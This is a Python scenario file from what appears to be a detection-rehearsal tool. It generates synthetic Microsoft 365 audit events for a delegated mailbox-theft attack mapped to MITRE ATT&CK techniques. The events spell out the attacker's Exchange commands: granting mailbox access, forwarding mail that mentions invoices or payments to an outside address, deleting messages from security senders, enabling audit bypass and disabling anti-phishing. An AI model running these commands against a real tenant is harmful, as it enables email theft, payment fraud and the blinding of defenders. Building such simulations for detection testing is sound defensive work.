"""Delegated mail theft: mail read through permissions and rules rather than through the owner's own sign-in.

Loud: an administrator's session gives itself full access to five mailboxes, reads them as a delegate, and makes rules
that forward what speaks of money, forwards the rest, and switches auditing and anti-phishing off. Quiet: one mailbox, folder permission only, no rule.
"""

from __future__ import annotations

from crosswarden.rehearsal.addresses import attacker_place, home_place
from crosswarden.rehearsal.applications import EXCHANGE, OUTLOOK_WEB
from crosswarden.rehearsal.event import Event
from crosswarden.rehearsal.mailbox import cmdlet, mail_bound
from crosswarden.rehearsal.organisation import User
from crosswarden.rehearsal.signins import signin
from crosswarden.rehearsal.story import Scenario, Story

__all__ = ["SCENARIO"]


def _commands(story: Story, tick: int, thief: User, owner: User, address: str, session: str) -> list[Event]:
    """Commands that hide the theft and let it go on."""
    victim, chance = story.victim, story.chance
    stem = f"EURPR04A009.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/{victim.domain}"
    always = [
        ("AlwaysDeleteOutlookRulesBlob", "False"),
        ("Force", "False"),
        ("Mailbox", owner.principal_name),
    ]
    words = ("SubjectOrBodyContainsWords", "invoice;payment;iban")
    outside = f"collect@{story.attacker.domain}"
    commands: list[tuple[str, list[tuple[str, str]], str]] = [
        (
            "New-InboxRule",
            [*always, ("Name", "."), words, ("ForwardTo", outside), ("StopProcessingRules", "True")],
            f"{stem}/{owner.name}\\.",
        ),
        (
            "New-InboxRule",
            [
                *always,
                ("Name", ".."),
                ("From", "security@"),
                ("DeleteMessage", "True"),
                ("StopProcessingRules", "True"),
            ],
            f"{stem}/{owner.name}\\..",
        ),
        (
            "Set-Mailbox",
            [
                ("Identity", owner.principal_name),
                ("ForwardingSmtpAddress", f"smtp:{outside}"),
                ("DeliverToMailboxAndForward", "True"),
            ],
            f"{stem}/{owner.name}",
        ),
        (
            "Set-MailboxAuditBypassAssociation",
            [("Identity", thief.principal_name), ("AuditBypassEnabled", "True")],
            f"{stem}/{thief.name}",
        ),
        (
            "Set-AntiPhishPolicy",
            [("Identity", "Office365 AntiPhish Default"), ("Enabled", "False")],
            "Office365 AntiPhish Default",
        ),
    ]
    events = []
    for name, parameters, subject in commands:
        tick = story.after(tick, 30, 120)
        events.append(
            cmdlet(
                victim,
                chance,
                tick,
                name,
                parameters,
                actor=thief.principal_name,
                key=thief.puid,
                address=address,
                object_id=subject,
                application=EXCHANGE.id,
                session=session,
            )
        )
    return events


def _tell(story: Story) -> None:
    victim, chance, loud = story.victim, story.chance, story.loud
    thief = story.administrator()
    place = attacker_place(chance) if loud else home_place(chance, thief.office)
    owners = story.people(5 if loud else 1)
    story.involve(tenant=victim.id, user=thief.id, mailbox=owners[0].principal_name, address=place.address)
    tick = story.moment(0, 11, 35)
    entry = signin(
        victim, chance, tick, thief, OUTLOOK_WEB, EXCHANGE, place, managed=False, multifactor=not loud
    )
    story.step("entry", "The attacker signs in to Outlook on the web.", entry.events)
    agent = f"Client=OWA;{thief.user_agent};"
    events: list[Event] = []
    for owner in owners:
        tick = story.after(tick, 20, 90)
        rights = "FullAccess" if loud else "ReadItems"
        events.append(
            cmdlet(
                victim,
                chance,
                tick,
                "Add-MailboxPermission" if loud else "Add-MailboxFolderPermission",
                [
                    ("Identity", owner.principal_name if loud else f"{owner.principal_name}:\\Inbox"),
                    ("User", thief.principal_name),
                    ("AccessRights", rights),
                    *([("InheritanceType", "All"), ("AutoMapping", "False")] if loud else []),
                ],
                actor=thief.principal_name,
                key=thief.puid,
                address=place.address,
                object_id=owner.principal_name,
                application=EXCHANGE.id,
            )
        )
    story.step("permission-given", "Access to other people's mailboxes is given.", events)
    events = []
    tick = story.after(tick, 120, 400) if loud else story.moment(1, 12, 10)
    for owner in owners:
        for _ in range(8 if loud else 2):
            tick = story.after(tick, 10, 60)
            events.append(
                mail_bound(
                    victim,
                    chance,
                    tick,
                    owner,
                    address=place.address,
                    application=EXCHANGE.id,
                    client=OUTLOOK_WEB.id,
                    info=agent,
                    token=entry.token,
                    issued=entry.tick,
                    session=entry.session,
                    user=thief,
                    count=6,
                )
            )
    story.step("mail-read", "Their mail is read as a delegate.", events)
    if loud:
        story.step(
            "rules-made",
            "Rules forward and delete, auditing and protection are switched off.",
            _commands(story, story.after(tick, 60, 200), thief, owners[0], place.address, entry.session),
        )
    if story.world.cleanup:
        story.step(
            "cleanup",
            "The permissions are taken away again.",
            [
                cmdlet(
                    victim,
                    chance,
                    story.moment(3, 8, 30 + number),
                    "Remove-MailboxPermission",
                    [
                        ("Identity", owner.principal_name),
                        ("User", thief.principal_name),
                        ("AccessRights", "FullAccess"),
                    ],
                    actor=thief.principal_name,
                    key=thief.puid,
                    address=place.address,
                    object_id=owner.principal_name,
                    application=EXCHANGE.id,
                )
                for number, owner in enumerate(owners)
            ],
        )


SCENARIO = Scenario(
    "mail-theft",
    "Delegated mail theft",
    "Mailbox permissions and rules let one account read others' mail.",
    ("T1098.002", "T1114.002", "T1114.003", "T1564.008", "T1562.008"),
    _tell,
)
